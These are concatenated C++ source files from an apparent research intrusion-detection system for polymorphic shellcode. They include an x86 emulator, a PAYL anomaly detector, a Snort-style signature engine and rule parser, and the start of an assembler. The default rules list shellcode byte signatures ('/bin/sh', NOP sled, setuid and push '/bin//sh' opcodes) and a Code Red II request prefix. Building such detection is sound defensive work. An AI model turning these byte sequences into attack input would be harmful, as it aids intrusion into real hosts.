      flags_.pf = ah & 4;
      flags_.zf = ah & 0x40;
      flags_.sf = ah & 0x80;
      break;
    }
    case Mnemonic::kLahf: {
      const std::uint32_t ah = (flags_.cf ? 1u : 0) | 2u | (flags_.pf ? 4u : 0) |
                               (flags_.zf ? 0x40u : 0) | (flags_.sf ? 0x80u : 0);
      write_reg(Reg{RegFamily::kAx, RegWidth::k8Hi}, ah);
      break;
    }
    case Mnemonic::kSalc:
      write_reg(Reg{RegFamily::kAx, RegWidth::k8Lo}, flags_.cf ? 0xff : 0);
      break;
    case Mnemonic::kSetcc:
      write_operand(op0, 8, cond_holds(insn.cond) ? 1 : 0);
      break;
    case Mnemonic::kCmov: {
      auto v = read_operand(op1, op_bits(insn, op1));
      if (!v) return;
      if (cond_holds(insn.cond)) write_operand(op0, op_bits(insn, op0), *v);
      break;
    }
    case Mnemonic::kBswap: {
      auto v = read_operand(op0, 32);
      if (!v) return;
      write_operand(op0, 32,
                    ((*v & 0xff) << 24) | ((*v & 0xff00) << 8) | ((*v >> 8) & 0xff00) |
                        (*v >> 24));
      break;
    }
    case Mnemonic::kXadd: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      set_add_flags(*a, *b, static_cast<std::uint64_t>(*a) + *b, bits);
      if (!write_operand(op1, bits, *a)) return;
      write_operand(op0, bits, (*a + *b) & mask_of(bits));
      break;
    }
    case Mnemonic::kCmpxchg: {
      const unsigned bits = op_bits(insn, op0);
      auto dst = read_operand(op0, bits);
      auto src = read_operand(op1, bits);
      if (!dst || !src) return;
      const std::uint32_t acc = regs_[0] & mask_of(bits);
      set_sub_flags(acc, *dst, bits);
      if (acc == (*dst & mask_of(bits))) {
        write_operand(op0, bits, *src);
      } else {
        write_reg(Reg{RegFamily::kAx,
                      bits == 8 ? RegWidth::k8Lo : bits == 16 ? RegWidth::k16
                                                              : RegWidth::k32},
                  *dst);
      }
      break;
    }

    // BCD adjustments: executed as no-ops (sled filler only; the decoders
    // initialize their registers afterwards).
    case Mnemonic::kDaa:
    case Mnemonic::kDas:
    case Mnemonic::kAaa:
    case Mnemonic::kAas:
    case Mnemonic::kNop:
    case Mnemonic::kWait:
    case Mnemonic::kCli:
    case Mnemonic::kSti:
      break;

    // Benign reads of machine state: zeroed.
    case Mnemonic::kCpuid:
      regs_[0] = regs_[1] = regs_[2] = regs_[3] = 0;
      break;
    case Mnemonic::kRdtsc:
      regs_[static_cast<unsigned>(RegFamily::kAx)] = 0;
      regs_[static_cast<unsigned>(RegFamily::kDx)] = 0;
      break;
    case Mnemonic::kIn:
      write_reg(Reg{RegFamily::kAx, insn.op_width}, 0);
      break;
    case Mnemonic::kOut:
      break;

    case Mnemonic::kBt:
    case Mnemonic::kBts:
    case Mnemonic::kBtr:
    case Mnemonic::kBtc:
    case Mnemonic::kBsf:
    case Mnemonic::kBsr: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      switch (insn.mnemonic) {
        case Mnemonic::kBsf:
          if (*b) write_operand(op0, bits, static_cast<std::uint32_t>(std::countr_zero(*b)));
          flags_.zf = *b == 0;
          break;
        case Mnemonic::kBsr:
          if (*b) {
            write_operand(op0, bits,
                          31u - static_cast<std::uint32_t>(std::countl_zero(*b)));
          }
          flags_.zf = *b == 0;
          break;
        default: {
          const unsigned idx = *b & (bits - 1);
          flags_.cf = (*a >> idx) & 1;
          std::uint32_t x = *a;
          if (insn.mnemonic == Mnemonic::kBts) x |= (1u << idx);
          if (insn.mnemonic == Mnemonic::kBtr) x &= ~(1u << idx);
          if (insn.mnemonic == Mnemonic::kBtc) x ^= (1u << idx);
          if (insn.mnemonic != Mnemonic::kBt) write_operand(op0, bits, x);
          break;
        }
      }
      break;
    }

    case Mnemonic::kFpuNop:
      last_fpu_va_ = eip_;
      break;
    case Mnemonic::kFnstenv: {
      // Write the 28-byte environment: zeros except FIP at +12.
      const std::uint32_t base = mem_addr(op0.mem);
      for (std::uint32_t i = 0; i < 28; i += 4) {
        if (!store(base + i, 32, i == 12 ? last_fpu_va_ : 0)) return;
      }
      break;
    }

    case Mnemonic::kHlt:
    case Mnemonic::kInt3:
    case Mnemonic::kInto:
      stop_ = StopReason::kHalted;
      return;

    case Mnemonic::kRetf:
    case Mnemonic::kIret:
    case Mnemonic::kInvalid:
      stop_ = StopReason::kUnsupported;
      return;
  }

  if (stop_ == StopReason::kRunning) eip_ = new_eip;
}

}  // namespace senids::emu
