#include "emu/memory.hpp"

namespace senids::emu {

std::optional<std::uint8_t> VirtualMemory::read8(std::uint32_t addr) const {
  if (auto it = overlay_.find(addr); it != overlay_.end()) return it->second;
  if (in_frame(addr)) return frame_[addr - kFrameBase];
  if (in_stack(addr)) return 0;  // stack reads are zero until written
  return std::nullopt;
}

std::optional<std::uint16_t> VirtualMemory::read16(std::uint32_t addr) const {
  auto lo = read8(addr);
  auto hi = read8(addr + 1);
  if (!lo || !hi) return std::nullopt;
  return static_cast<std::uint16_t>(*lo | (*hi << 8));
}

std::optional<std::uint32_t> VirtualMemory::read32(std::uint32_t addr) const {
  auto lo = read16(addr);
  auto hi = read16(addr + 2);
  if (!lo || !hi) return std::nullopt;
  return static_cast<std::uint32_t>(*lo) | (static_cast<std::uint32_t>(*hi) << 16);
}

bool VirtualMemory::write8(std::uint32_t addr, std::uint8_t value) {
  if (!mapped(addr)) return false;
  if (in_frame(addr) && !overlay_.contains(addr)) ++frame_writes_;
  overlay_[addr] = value;
  return true;
}

bool VirtualMemory::write16(std::uint32_t addr, std::uint16_t value) {
  return write8(addr, static_cast<std::uint8_t>(value & 0xff)) &&
         write8(addr + 1, static_cast<std::uint8_t>(value >> 8));
}

bool VirtualMemory::write32(std::uint32_t addr, std::uint32_t value) {
  return write16(addr, static_cast<std::uint16_t>(value & 0xffff)) &&
         write16(addr + 2, static_cast<std::uint16_t>(value >> 16));
}

util::Bytes VirtualMemory::snapshot_frame() const {
  util::Bytes out(frame_.begin(), frame_.end());
  for (const auto& [addr, value] : overlay_) {
    if (in_frame(addr)) out[addr - kFrameBase] = value;
  }
  return out;
}

std::optional<std::string> VirtualMemory::read_cstring(std::uint32_t addr,
                                                       std::size_t max_len) const {
  std::string out;
  for (std::size_t i = 0; i < max_len; ++i) {
    auto b = read8(addr + static_cast<std::uint32_t>(i));
    if (!b) return std::nullopt;
    if (*b == 0) return out;
    out.push_back(static_cast<char>(*b));
  }
  return out;  // unterminated within cap: return what we have
}

}  // namespace senids::emu
