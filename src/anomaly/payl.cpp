#include "anomaly/payl.hpp"

#include <bit>
#include <cmath>

namespace senids::anomaly {

std::array<double, 256> byte_spectrum(util::ByteView payload) {
  std::array<double, 256> freq{};
  if (payload.empty()) return freq;
  for (std::uint8_t b : payload) freq[b] += 1.0;
  for (double& f : freq) f /= static_cast<double>(payload.size());
  return freq;
}

void ByteModel::add(const std::array<double, 256>& freq) {
  ++samples;
  for (int i = 0; i < 256; ++i) {
    const double delta = freq[static_cast<std::size_t>(i)] - mean[static_cast<std::size_t>(i)];
    mean[static_cast<std::size_t>(i)] += delta / static_cast<double>(samples);
    const double delta2 =
        freq[static_cast<std::size_t>(i)] - mean[static_cast<std::size_t>(i)];
    m2[static_cast<std::size_t>(i)] += delta * delta2;
  }
}

double ByteModel::distance(const std::array<double, 256>& freq, double smoothing) const {
  if (samples == 0) return 0.0;
  double d = 0.0;
  for (std::size_t i = 0; i < 256; ++i) {
    const double var = samples > 1 ? m2[i] / static_cast<double>(samples - 1) : 0.0;
    const double sd = std::sqrt(var) + smoothing;
    d += std::abs(freq[i] - mean[i]) / sd;
  }
  return d;
}

std::uint32_t PaylDetector::bucket_of(std::size_t len) const noexcept {
  if (!options_.bucket_by_length) return 0;
  return static_cast<std::uint32_t>(std::bit_width(len));
}

void PaylDetector::train(util::ByteView payload, std::uint16_t dst_port) {
  if (payload.empty()) return;
  const std::uint64_t key =
      (static_cast<std::uint64_t>(dst_port) << 32) | bucket_of(payload.size());
  models_[key].add(byte_spectrum(payload));
}

double PaylDetector::score(util::ByteView payload, std::uint16_t dst_port) const {
  if (payload.empty()) return 0.0;
  const std::uint64_t key =
      (static_cast<std::uint64_t>(dst_port) << 32) | bucket_of(payload.size());
  auto it = models_.find(key);
  if (it == models_.end()) return 0.0;
  return it->second.distance(byte_spectrum(payload));
}

}  // namespace senids::anomaly
