// PAYL-style 1-gram payload anomaly detector (Stolfo & Wang, RAID'04 —
// reference [12] of the paper). Trains per-(port, length-bucket) byte
// histograms on benign traffic and scores new payloads by a simplified
// Mahalanobis distance. Included as the statistical baseline: the Clet
// engine's spectrum padding is designed to defeat exactly this detector.
#pragma once

#include <array>
#include <cstdint>
#include <map>
#include <vector>

#include "util/bytes.hpp"

namespace senids::anomaly {

/// Normalised 1-gram byte spectrum of a payload (each cell in [0, 1],
/// summing to 1 for non-empty input). The shared primitive under both
/// the PAYL detector and the stage-0 triage spectrum screen.
[[nodiscard]] std::array<double, 256> byte_spectrum(util::ByteView payload);

/// One trained model cell: running mean/variance of each byte frequency.
struct ByteModel {
  std::array<double, 256> mean{};
  std::array<double, 256> m2{};  // sum of squared deviations (Welford)
  std::size_t samples = 0;

  void add(const std::array<double, 256>& freq);
  [[nodiscard]] double distance(const std::array<double, 256>& freq,
                                double smoothing = 0.001) const;
};

class PaylDetector {
 public:
  struct Options {
    double threshold = 256.0;  // alert when distance exceeds this
    /// Payload lengths are bucketed by powers of two (PAYL conditions its
    /// models on length).
    bool bucket_by_length = true;
  };

  PaylDetector() : PaylDetector(Options{}) {}
  explicit PaylDetector(Options options) : options_(options) {}

  /// Accumulate one benign payload into the model.
  void train(util::ByteView payload, std::uint16_t dst_port);

  /// Anomaly score of a payload (higher = more anomalous). Payloads for
  /// untrained (port, bucket) cells score 0 — PAYL stays silent without
  /// a baseline, which is itself a known weakness.
  [[nodiscard]] double score(util::ByteView payload, std::uint16_t dst_port) const;

  [[nodiscard]] bool is_anomalous(util::ByteView payload, std::uint16_t dst_port) const {
    return score(payload, dst_port) > options_.threshold;
  }

  [[nodiscard]] std::size_t model_count() const noexcept { return models_.size(); }
  [[nodiscard]] const Options& options() const noexcept { return options_; }

 private:
  [[nodiscard]] std::uint32_t bucket_of(std::size_t len) const noexcept;

  Options options_;
  std::map<std::uint64_t, ByteModel> models_;  // key: port << 32 | bucket
};

}  // namespace senids::anomaly
