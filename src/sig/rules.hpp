// Snort-lite signature engine: named byte-pattern rules over payloads.
// This is the syntactic baseline for bench_baseline_comparison — it
// catches the static exploits its rules were written for and loses to
// every fresh polymorphic instance, which is the paper's Section 3
// motivation.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "sig/aho.hpp"

namespace senids::sig {

struct Rule {
  std::string name;
  util::Bytes pattern;
  /// 0 = any destination port.
  std::uint16_t dst_port = 0;
};

struct SigAlert {
  std::string rule_name;
  std::size_t offset = 0;
};

class SignatureEngine {
 public:
  explicit SignatureEngine(std::vector<Rule> rules);

  [[nodiscard]] std::vector<SigAlert> scan(util::ByteView payload,
                                           std::uint16_t dst_port = 0) const;
  [[nodiscard]] bool any_match(util::ByteView payload, std::uint16_t dst_port = 0) const;
  [[nodiscard]] std::size_t rule_count() const noexcept { return rules_.size(); }

 private:
  std::vector<Rule> rules_;
  AhoCorasick ac_;
};

/// Default rule set: classic shellcode strings, the 0x90 sled, int 0x80
/// idioms, the Code Red II request prefix, and exact-byte signatures for
/// a handful of *specific known* polymorphic decoder instances (which is
/// all a syntactic IDS can ever have).
std::vector<Rule> make_default_rules();

/// Exact-byte signature extracted from one concrete sample — the
/// signature-generation workflow a syntactic IDS depends on.
Rule make_exact_rule(std::string name, util::ByteView sample, std::size_t offset,
                     std::size_t length);

}  // namespace senids::sig
