// Aho-Corasick multi-pattern byte matcher — the core of the syntactic
// (Snort-style) baseline NIDS the paper argues against. Built once,
// scanned many times; scanning is O(bytes + matches).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "util/bytes.hpp"

namespace senids::sig {

struct AcMatch {
  std::size_t pattern_id = 0;
  std::size_t end_offset = 0;  // offset one past the last matched byte
};

class AhoCorasick {
 public:
  /// Register a pattern before build(); returns its id. Empty patterns
  /// are rejected (returns SIZE_MAX).
  std::size_t add_pattern(util::ByteView pattern);

  /// Finalize the automaton (BFS failure links). Must be called once,
  /// after which add_pattern is no longer allowed.
  void build();

  /// Find all occurrences of all patterns.
  [[nodiscard]] std::vector<AcMatch> scan(util::ByteView data) const;

  /// True if any pattern occurs (early-exit scan).
  [[nodiscard]] bool matches_any(util::ByteView data) const;

  [[nodiscard]] std::size_t pattern_count() const noexcept { return lengths_.size(); }

 private:
  struct Node {
    std::int32_t next[256];
    std::int32_t fail = 0;
    std::vector<std::uint32_t> outputs;

    Node() {
      for (auto& n : next) n = -1;
    }
  };

  std::vector<Node> nodes_{1};
  // Flat copy of the goto function for matches_any: one int32 per
  // (state, byte), with transitions *into* an output state stored as
  // ~target. The early-exit scan is then a single dependent load and a
  // sign test per byte — the per-node Node walk costs a second load
  // (outputs.empty()) that halves prefilter throughput.
  std::vector<std::int32_t> flat_next_;
  std::vector<std::size_t> lengths_;
  std::size_t max_pattern_len_ = 0;
  bool built_ = false;
};

}  // namespace senids::sig
