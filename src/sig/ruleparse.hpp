// Parser for a Snort-compatible subset of rule syntax, so the syntactic
// baseline can load real-world style rule files:
//
//   alert tcp any any -> any 80 (msg:"WEB-IIS ida attempt"; content:".ida?";)
//   alert tcp any any -> any any (msg:"shellcode hex"; content:"|CD 80|";)
//
// Supported: the `alert` action, tcp/udp/ip protocols (informational),
// a destination-port filter (a number or `any`), `msg:"..."` and one or
// more `content:"..."` options with Snort's |hex| escapes. Everything
// else inside the parentheses is ignored, matching how a minimal engine
// degrades on a community ruleset.
#pragma once

#include <string>
#include <variant>
#include <vector>

#include "sig/rules.hpp"

namespace senids::sig {

struct RuleParseError {
  std::size_t line = 0;
  std::string message;
};

/// Parse a rule file. Multiple `content` options in one rule become
/// multiple Rule entries sharing the msg (the engine alerts if any
/// matches, which over-approximates Snort's AND semantics — documented
/// baseline behaviour).
std::variant<std::vector<Rule>, RuleParseError> parse_snort_rules(std::string_view text);

}  // namespace senids::sig
