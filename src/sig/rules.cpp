#include "sig/rules.hpp"

namespace senids::sig {

SignatureEngine::SignatureEngine(std::vector<Rule> rules) : rules_(std::move(rules)) {
  for (const Rule& r : rules_) {
    ac_.add_pattern(r.pattern);
  }
  ac_.build();
}

std::vector<SigAlert> SignatureEngine::scan(util::ByteView payload,
                                            std::uint16_t dst_port) const {
  std::vector<SigAlert> out;
  for (const AcMatch& m : ac_.scan(payload)) {
    const Rule& r = rules_[m.pattern_id];
    if (r.dst_port != 0 && dst_port != 0 && r.dst_port != dst_port) continue;
    out.push_back(SigAlert{r.name, m.end_offset - r.pattern.size()});
  }
  return out;
}

bool SignatureEngine::any_match(util::ByteView payload, std::uint16_t dst_port) const {
  if (dst_port == 0) return ac_.matches_any(payload);
  return !scan(payload, dst_port).empty();
}

std::vector<Rule> make_default_rules() {
  std::vector<Rule> rules;
  auto add = [&rules](std::string name, util::Bytes pattern, std::uint16_t port = 0) {
    rules.push_back(Rule{std::move(name), std::move(pattern), port});
  };
  // Classic content signatures (Snort community-rule equivalents).
  add("SHELLCODE /bin/sh string", util::to_bytes("/bin/sh"));
  add("SHELLCODE x86 NOP sled", util::Bytes(16, 0x90));
  // xor eax,eax ; ... int 0x80 (the setreuid prologue bytes)
  add("SHELLCODE x86 setuid 0", util::Bytes{0x31, 0xdb, 0x8d, 0x43, 0x17, 0xcd, 0x80});
  // push "//sh" ; push "/bin"
  add("SHELLCODE x86 push /bin//sh",
      util::Bytes{0x68, 0x2f, 0x2f, 0x73, 0x68, 0x68, 0x2f, 0x62, 0x69, 0x6e});
  add("WEB-IIS CodeRed II .ida attempt",
      util::to_bytes("GET /default.ida?XXXXXXXXXXXX"), 80);
  add("WEB-IIS ISAPI .ida access", util::to_bytes(".ida?"), 80);
  return rules;
}

Rule make_exact_rule(std::string name, util::ByteView sample, std::size_t offset,
                     std::size_t length) {
  offset = std::min(offset, sample.size());
  length = std::min(length, sample.size() - offset);
  return Rule{std::move(name),
              util::Bytes(sample.begin() + static_cast<std::ptrdiff_t>(offset),
                          sample.begin() + static_cast<std::ptrdiff_t>(offset + length)),
              0};
}

}  // namespace senids::sig
