#include "sig/aho.hpp"

#include <deque>

namespace senids::sig {

std::size_t AhoCorasick::add_pattern(util::ByteView pattern) {
  if (built_ || pattern.empty()) return SIZE_MAX;
  std::int32_t cur = 0;
  for (std::uint8_t b : pattern) {
    if (nodes_[static_cast<std::size_t>(cur)].next[b] < 0) {
      nodes_[static_cast<std::size_t>(cur)].next[b] =
          static_cast<std::int32_t>(nodes_.size());
      nodes_.emplace_back();
    }
    cur = nodes_[static_cast<std::size_t>(cur)].next[b];
  }
  const std::size_t id = lengths_.size();
  nodes_[static_cast<std::size_t>(cur)].outputs.push_back(static_cast<std::uint32_t>(id));
  lengths_.push_back(pattern.size());
  return id;
}

void AhoCorasick::build() {
  if (built_) return;
  built_ = true;
  // Standard BFS: convert the trie to a goto function with failure links,
  // merging output sets along failure chains so scan never walks them.
  std::deque<std::int32_t> queue;
  for (int b = 0; b < 256; ++b) {
    std::int32_t& nxt = nodes_[0].next[b];
    if (nxt < 0) {
      nxt = 0;
    } else {
      nodes_[static_cast<std::size_t>(nxt)].fail = 0;
      queue.push_back(nxt);
    }
  }
  while (!queue.empty()) {
    const std::int32_t u = queue.front();
    queue.pop_front();
    const std::int32_t ufail = nodes_[static_cast<std::size_t>(u)].fail;
    const auto& fail_outputs = nodes_[static_cast<std::size_t>(ufail)].outputs;
    auto& uo = nodes_[static_cast<std::size_t>(u)].outputs;
    uo.insert(uo.end(), fail_outputs.begin(), fail_outputs.end());
    for (int b = 0; b < 256; ++b) {
      std::int32_t& nxt = nodes_[static_cast<std::size_t>(u)].next[b];
      if (nxt < 0) {
        nxt = nodes_[static_cast<std::size_t>(ufail)].next[b];
      } else {
        nodes_[static_cast<std::size_t>(nxt)].fail =
            nodes_[static_cast<std::size_t>(ufail)].next[b];
        queue.push_back(nxt);
      }
    }
  }
}

std::vector<AcMatch> AhoCorasick::scan(util::ByteView data) const {
  std::vector<AcMatch> out;
  std::int32_t state = 0;
  for (std::size_t i = 0; i < data.size(); ++i) {
    state = nodes_[static_cast<std::size_t>(state)].next[data[i]];
    for (std::uint32_t id : nodes_[static_cast<std::size_t>(state)].outputs) {
      out.push_back(AcMatch{id, i + 1});
    }
  }
  return out;
}

bool AhoCorasick::matches_any(util::ByteView data) const {
  std::int32_t state = 0;
  for (std::uint8_t b : data) {
    state = nodes_[static_cast<std::size_t>(state)].next[b];
    if (!nodes_[static_cast<std::size_t>(state)].outputs.empty()) return true;
  }
  return false;
}

}  // namespace senids::sig
