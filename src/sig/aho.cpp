#include "sig/aho.hpp"

#include <algorithm>
#include <deque>

namespace senids::sig {

std::size_t AhoCorasick::add_pattern(util::ByteView pattern) {
  if (built_ || pattern.empty()) return SIZE_MAX;
  std::int32_t cur = 0;
  for (std::uint8_t b : pattern) {
    if (nodes_[static_cast<std::size_t>(cur)].next[b] < 0) {
      nodes_[static_cast<std::size_t>(cur)].next[b] =
          static_cast<std::int32_t>(nodes_.size());
      nodes_.emplace_back();
    }
    cur = nodes_[static_cast<std::size_t>(cur)].next[b];
  }
  const std::size_t id = lengths_.size();
  nodes_[static_cast<std::size_t>(cur)].outputs.push_back(static_cast<std::uint32_t>(id));
  lengths_.push_back(pattern.size());
  max_pattern_len_ = std::max(max_pattern_len_, pattern.size());
  return id;
}

void AhoCorasick::build() {
  if (built_) return;
  built_ = true;
  // Standard BFS: convert the trie to a goto function with failure links,
  // merging output sets along failure chains so scan never walks them.
  std::deque<std::int32_t> queue;
  for (int b = 0; b < 256; ++b) {
    std::int32_t& nxt = nodes_[0].next[b];
    if (nxt < 0) {
      nxt = 0;
    } else {
      nodes_[static_cast<std::size_t>(nxt)].fail = 0;
      queue.push_back(nxt);
    }
  }
  while (!queue.empty()) {
    const std::int32_t u = queue.front();
    queue.pop_front();
    const std::int32_t ufail = nodes_[static_cast<std::size_t>(u)].fail;
    const auto& fail_outputs = nodes_[static_cast<std::size_t>(ufail)].outputs;
    auto& uo = nodes_[static_cast<std::size_t>(u)].outputs;
    uo.insert(uo.end(), fail_outputs.begin(), fail_outputs.end());
    for (int b = 0; b < 256; ++b) {
      std::int32_t& nxt = nodes_[static_cast<std::size_t>(u)].next[b];
      if (nxt < 0) {
        nxt = nodes_[static_cast<std::size_t>(ufail)].next[b];
      } else {
        nodes_[static_cast<std::size_t>(nxt)].fail =
            nodes_[static_cast<std::size_t>(ufail)].next[b];
        queue.push_back(nxt);
      }
    }
  }
  // Flatten for matches_any: transitions into an output state are
  // bit-complemented so the hot loop needs only a sign test.
  flat_next_.resize(nodes_.size() * 256);
  for (std::size_t u = 0; u < nodes_.size(); ++u) {
    for (int b = 0; b < 256; ++b) {
      const std::int32_t target = nodes_[u].next[b];
      flat_next_[u * 256 + static_cast<std::size_t>(b)] =
          nodes_[static_cast<std::size_t>(target)].outputs.empty() ? target : ~target;
    }
  }
}

std::vector<AcMatch> AhoCorasick::scan(util::ByteView data) const {
  std::vector<AcMatch> out;
  std::int32_t state = 0;
  for (std::size_t i = 0; i < data.size(); ++i) {
    state = nodes_[static_cast<std::size_t>(state)].next[data[i]];
    for (std::uint32_t id : nodes_[static_cast<std::size_t>(state)].outputs) {
      out.push_back(AcMatch{id, i + 1});
    }
  }
  return out;
}

bool AhoCorasick::matches_any(util::ByteView data) const {
  if (flat_next_.empty()) return false;  // build() not called yet
  const std::int32_t* flat = flat_next_.data();
  // The automaton walk is a chain of dependent L1 loads, so a single
  // stream runs at load latency (~5 cycles/byte). Large payloads are
  // split into four overlapping chunks walked in lockstep: four
  // independent chains fill the pipeline for a ~3x speedup. Chunks
  // i > 0 start max_pattern_len_ - 1 bytes early from the root state,
  // so any match straddling a cut is still fully inside one chunk.
  const std::size_t n = data.size();
  if (n >= 256) {
    const std::size_t chunk = (n + 3) / 4;
    const std::size_t overlap = max_pattern_len_ ? max_pattern_len_ - 1 : 0;
    std::size_t pos[4];
    std::size_t end[4];
    std::int32_t st[4] = {0, 0, 0, 0};
    std::size_t steps = SIZE_MAX;
    for (std::size_t i = 0; i < 4; ++i) {
      const std::size_t cut = i * chunk;
      pos[i] = cut > overlap ? cut - overlap : 0;
      end[i] = std::min(n, cut + chunk);
      steps = std::min(steps, end[i] - pos[i]);
    }
    const std::uint8_t* p = data.data();
    for (std::size_t j = 0; j < steps; ++j) {
      st[0] = flat[static_cast<std::size_t>(st[0]) * 256 + p[pos[0] + j]];
      st[1] = flat[static_cast<std::size_t>(st[1]) * 256 + p[pos[1] + j]];
      st[2] = flat[static_cast<std::size_t>(st[2]) * 256 + p[pos[2] + j]];
      st[3] = flat[static_cast<std::size_t>(st[3]) * 256 + p[pos[3] + j]];
      if ((st[0] | st[1] | st[2] | st[3]) < 0) return true;
    }
    for (std::size_t i = 0; i < 4; ++i) {
      std::int32_t state = st[i];
      for (std::size_t k = pos[i] + steps; k < end[i]; ++k) {
        state = flat[static_cast<std::size_t>(state) * 256 + p[k]];
        if (state < 0) return true;
      }
    }
    return false;
  }
  std::int32_t state = 0;
  for (std::uint8_t b : data) {
    state = flat[static_cast<std::size_t>(state) * 256 + b];
    if (state < 0) return true;
  }
  return false;
}

}  // namespace senids::sig
