#include "sig/ruleparse.hpp"

#include <cctype>
#include <optional>

namespace senids::sig {

namespace {

/// Decode a Snort content string: plain characters, with |48 65 78|
/// hex-byte islands.
std::optional<util::Bytes> decode_content(std::string_view text) {
  util::Bytes out;
  bool in_hex = false;
  int hi = -1;
  for (char c : text) {
    if (c == '|') {
      if (in_hex && hi >= 0) return std::nullopt;  // odd hex digits
      in_hex = !in_hex;
      continue;
    }
    if (!in_hex) {
      out.push_back(static_cast<std::uint8_t>(c));
      continue;
    }
    if (std::isspace(static_cast<unsigned char>(c))) continue;
    int d;
    if (c >= '0' && c <= '9') {
      d = c - '0';
    } else if (c >= 'a' && c <= 'f') {
      d = c - 'a' + 10;
    } else if (c >= 'A' && c <= 'F') {
      d = c - 'A' + 10;
    } else {
      return std::nullopt;
    }
    if (hi < 0) {
      hi = d;
    } else {
      out.push_back(static_cast<std::uint8_t>((hi << 4) | d));
      hi = -1;
    }
  }
  if (in_hex || hi >= 0) return std::nullopt;
  if (out.empty()) return std::nullopt;
  return out;
}

std::string_view trim(std::string_view s) {
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.front()))) {
    s.remove_prefix(1);
  }
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.back()))) {
    s.remove_suffix(1);
  }
  return s;
}

}  // namespace

std::variant<std::vector<Rule>, RuleParseError> parse_snort_rules(std::string_view text) {
  std::vector<Rule> rules;
  std::size_t line_no = 0;
  std::size_t pos = 0;
  while (pos <= text.size()) {
    const std::size_t eol = text.find('\n', pos);
    std::string_view line =
        text.substr(pos, eol == std::string_view::npos ? text.size() - pos : eol - pos);
    pos = eol == std::string_view::npos ? text.size() + 1 : eol + 1;
    ++line_no;

    line = trim(line);
    if (line.empty() || line.front() == '#') continue;

    // header: action proto src sport -> dst dport
    auto fail = [&](std::string msg) {
      return RuleParseError{line_no, std::move(msg)};
    };
    std::vector<std::string_view> head;
    const std::size_t paren = line.find('(');
    if (paren == std::string_view::npos) return fail("missing '(' options block");
    {
      std::string_view h = line.substr(0, paren);
      std::size_t start = 0;
      for (std::size_t i = 0; i <= h.size(); ++i) {
        if (i == h.size() || std::isspace(static_cast<unsigned char>(h[i]))) {
          if (i > start) head.push_back(h.substr(start, i - start));
          start = i + 1;
        }
      }
    }
    if (head.size() != 7) return fail("expected: action proto src sport -> dst dport");
    if (head[0] != "alert") return fail("only 'alert' rules are supported");
    if (head[1] != "tcp" && head[1] != "udp" && head[1] != "ip") {
      return fail("unsupported protocol '" + std::string(head[1]) + "'");
    }
    if (head[4] != "->") return fail("expected '->' direction");
    std::uint16_t dst_port = 0;
    if (head[6] != "any") {
      int v = 0;
      for (char c : head[6]) {
        if (c < '0' || c > '9') return fail("bad destination port");
        v = v * 10 + (c - '0');
      }
      if (v <= 0 || v > 65535) return fail("destination port out of range");
      dst_port = static_cast<std::uint16_t>(v);
    }

    // options: key:"value"; pairs, semicolon separated.
    const std::size_t close = line.rfind(')');
    if (close == std::string_view::npos || close < paren) return fail("missing ')'");
    std::string_view opts = line.substr(paren + 1, close - paren - 1);
    std::string msg;
    std::vector<util::Bytes> contents;
    std::size_t i = 0;
    while (i < opts.size()) {
      while (i < opts.size() &&
             (std::isspace(static_cast<unsigned char>(opts[i])) || opts[i] == ';')) {
        ++i;
      }
      if (i >= opts.size()) break;
      const std::size_t colon = opts.find(':', i);
      if (colon == std::string_view::npos) break;  // flag-style option: ignore rest
      const std::string key(trim(opts.substr(i, colon - i)));
      std::size_t vstart = colon + 1;
      while (vstart < opts.size() && std::isspace(static_cast<unsigned char>(opts[vstart]))) {
        ++vstart;
      }
      std::string value;
      if (vstart < opts.size() && opts[vstart] == '"') {
        const std::size_t vend = opts.find('"', vstart + 1);
        if (vend == std::string_view::npos) return fail("unterminated string");
        value = std::string(opts.substr(vstart + 1, vend - vstart - 1));
        i = vend + 1;
      } else {
        std::size_t vend = opts.find(';', vstart);
        if (vend == std::string_view::npos) vend = opts.size();
        value = std::string(trim(opts.substr(vstart, vend - vstart)));
        i = vend;
      }
      if (key == "msg") {
        msg = value;
      } else if (key == "content") {
        auto bytes = decode_content(value);
        if (!bytes) return fail("bad content string");
        contents.push_back(std::move(*bytes));
      }  // other options (sid, rev, classtype, nocase, ...) are ignored
    }
    if (contents.empty()) return fail("rule has no content option");
    if (msg.empty()) msg = "rule@" + std::to_string(line_no);
    for (auto& c : contents) {
      rules.push_back(Rule{msg, std::move(c), dst_port});
    }
  }
  return rules;
}

}  // namespace senids::sig
