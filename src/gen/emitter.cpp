#include "gen/emitter.hpp"

namespace senids::gen {

using util::Bytes;

R8 low8(R32 r) {
  const auto idx = static_cast<std::uint8_t>(r);
  if (idx > 3) throw EmitError("no low-8 register for this family");
  return static_cast<R8>(idx);
}

Asm::Label Asm::new_label() {
  labels_.push_back(-1);
  return Label{labels_.size() - 1};
}

void Asm::bind(Label label) {
  if (labels_[label.id] != -1) throw EmitError("label bound twice");
  labels_[label.id] = static_cast<std::ptrdiff_t>(code_.size());
}

Bytes Asm::finish() {
  for (const Fixup& f : fixups_) {
    const std::ptrdiff_t target = labels_[f.label];
    if (target < 0) throw EmitError("unbound label");
    if (f.rel8) {
      const std::ptrdiff_t rel = target - static_cast<std::ptrdiff_t>(f.at + 1);
      if (rel < -128 || rel > 127) throw EmitError("rel8 fixup out of range");
      code_[f.at] = static_cast<std::uint8_t>(rel);
    } else {
      const std::ptrdiff_t rel = target - static_cast<std::ptrdiff_t>(f.at + 4);
      for (int i = 0; i < 4; ++i) {
        code_[f.at + static_cast<std::size_t>(i)] =
            static_cast<std::uint8_t>((static_cast<std::uint32_t>(rel) >> (8 * i)) & 0xff);
      }
    }
  }
  fixups_.clear();
  labels_.clear();
  Bytes out;
  out.swap(code_);
  return out;
}

void Asm::raw(util::ByteView bytes) { code_.insert(code_.end(), bytes.begin(), bytes.end()); }
void Asm::raw8(std::uint8_t b) { code_.push_back(b); }

void Asm::emit_modrm_mem(std::uint8_t reg, R32 base, std::int32_t disp) {
  const auto rm = static_cast<std::uint8_t>(base);
  std::uint8_t mod;
  if (disp == 0 && base != R32::ebp) {
    mod = 0;
  } else if (disp >= -128 && disp <= 127) {
